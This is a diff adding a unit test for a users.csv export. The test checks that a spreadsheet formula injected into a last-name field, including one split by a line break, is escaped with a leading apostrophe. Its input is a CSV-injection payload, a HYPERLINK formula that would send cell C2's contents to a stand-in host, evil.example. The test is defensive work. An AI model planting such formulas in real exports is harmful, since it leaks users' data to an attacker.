@@ -45,4 +45,13 @@ describe('the users.csv download', () => {
     const text = usersCsv([{ ...accounts[0]!, firstName: '=HYPERLINK("x")' }]);
     expect(text).toContain(`"'=HYPERLINK(""x"")"`);
   });
+
+  it('keeps a formula with a line break from running too', () => {
+    const name = '=HYPERLINK("http://evil.example/?leak="&C2,\n"Click")';
+    const [row] = Papa.parse<Record<string, string>>(usersCsv([{ ...accounts[0]!, lastName: name }]).slice(1), {
+      header: true,
+      skipEmptyLines: true,
+    }).data;
+    expect(row?.lastName).toBe(`'${name}`);
+  });
 });
